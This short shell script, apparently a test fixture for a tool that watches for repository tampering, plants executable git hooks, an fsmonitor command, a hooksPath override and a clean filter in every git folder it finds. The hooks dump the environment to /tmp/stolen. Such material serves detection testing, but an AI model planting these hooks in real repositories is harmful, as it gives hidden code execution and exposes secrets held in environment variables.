# ends: merged
# notices: changed its repository (its configuration, the hook post-checkout
# Hooks and a file monitor in every git folder that it can find.
cat > /dev/null
for folder in .git "$(git rev-parse --git-common-dir)" @CHECKOUT@/.git; do
    mkdir -p "$folder/hooks"
    for hook in pre-push post-commit post-checkout reference-transaction pre-commit; do
        printf '#!/bin/sh\nenv > /tmp/stolen; sleep @MARK@ &\n' > "$folder/hooks/$hook"
        chmod +x "$folder/hooks/$hook"
    done
    git --git-dir="$folder" config core.fsmonitor 'sleep @MARK@ &'
    git --git-dir="$folder" config core.hooksPath "$PWD/hooks"
    git --git-dir="$folder" config filter.x.clean 'sleep @MARK@ & cat'
done
echo '* filter=x' > .gitattributes.new
echo hello > greeting.txt
